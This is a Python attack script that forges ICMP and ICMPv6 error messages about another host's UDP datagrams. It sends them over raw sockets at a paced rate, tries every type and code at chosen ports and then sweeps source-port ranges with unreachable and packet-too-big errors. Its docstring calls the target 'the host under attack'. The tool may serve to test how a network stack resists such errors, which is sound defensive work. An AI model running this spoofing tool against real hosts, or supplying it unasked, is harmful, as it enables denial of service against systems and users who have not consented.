#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""Forged ICMP and ICMPv6 messages about UDP datagrams of another host, paced, in a process of its own.

Reads one JSON object from its command line:

    to        address of the host under attack, as the outer destination
    source    its address as the forged inner packet has it
    inner     [[address, port], …]: destinations of the inner packet, right and wrong ones
    ports     source ports of the inner packet, to aim at
    sweep     [first, last]: source ports to sweep
    rate      messages/s

and prints {"sent": N, "seconds": S}. First the messages are aimed: every type and code at any of the
ports and destinations in turn, and every code of the error types at all of them. Then some errors
sweep the range of ports.
"""

import itertools
import json
import socket
import struct
import sys
import time

# Types of error messages, and what is swept: port unreachable; source route failed (EOPNOTSUPP) and
# packet too big (EMSGSIZE), which a sender may take for a refusal of its batch.
ERRORS = {socket.AF_INET: (3, 4, 5, 11, 12), socket.AF_INET6: (1, 2, 3, 4, 137)}
SWEPT = {socket.AF_INET: ((3, 3), (3, 5), (3, 4)), socket.AF_INET6: ((1, 4), (1, 1), (2, 0))}
BURST = 16


class Forger:
    """Makes the messages of one attack, and sends them at a steady rate."""

    def __init__(self, order):
        self.family = socket.AF_INET6 if ":" in order["to"] else socket.AF_INET
        protocol = socket.IPPROTO_ICMPV6 if self.family == socket.AF_INET6 else socket.IPPROTO_ICMP
        self.socket = socket.socket(self.family, socket.SOCK_RAW, protocol)
        self.order = order
        self.sent = 0
        self.began = time.monotonic()

    def _inner(self, port, destination):
        """The headers of a datagram that the host is said to have sent, and some payload."""
        udp = struct.pack("!HHHH", port, destination[1], 8 + 1400, 0) + bytes(8)
        source, to = (socket.inet_pton(self.family, address)
                      for address in (self.order["source"], destination[0]))
        if self.family == socket.AF_INET6:
            return struct.pack("!IHBB", 6 << 28, 1408, 17, 8) + source + to + udp
        return struct.pack("!BBHHHBBH", 0x45, 0, 1428, 1, 0, 8, 17, 0) + source + to + udp

    def send(self, kind, code, port, destination):
        """One message. The kernel computes checksums of ICMPv6 only."""
        rest = struct.pack("!I", 600) + self._inner(port, destination)
        total = (kind << 8 | code) + sum(struct.unpack(f"!{len(rest) // 2}H", rest))
        while total >> 16:
            total = (total & 0xffff) + (total >> 16)
        try:
            self.socket.sendto(struct.pack("!BBH", kind, code, ~total & 0xffff) + rest,
                               (self.order["to"], 0))
        except OSError:
            return  # this machine's own queue is full
        self.sent += 1
        if self.sent % BURST == 0:
            ahead = self.sent / self.order["rate"] - (time.monotonic() - self.began)
            if ahead > 0:
                time.sleep(ahead)

    def aim(self):
        """At the ports that are known."""
        targets = itertools.product(self.order["ports"], self.order["inner"])
        targets = list(targets)
        turn = itertools.cycle(targets)
        for kind, code in itertools.product(range(256), range(256)):
            for target in targets if kind in ERRORS[self.family] else (next(turn),):
                self.send(kind, code, *target)

    def sweep(self):
        """All ports that a socket without one of its own may get."""
        first, last = self.order["sweep"]
        destinations = itertools.cycle(self.order["inner"])
        for kind, code in SWEPT[self.family]:
            for port in range(first, last + 1):
                self.send(kind, code, port, next(destinations))


def attack(order):
    """All of it."""
    forger = Forger(order)
    forger.aim()
    forger.sweep()
    print(json.dumps({"sent": forger.sent, "seconds": time.monotonic() - forger.began}))


if __name__ == "__main__":
    attack(json.loads(sys.argv[1]))
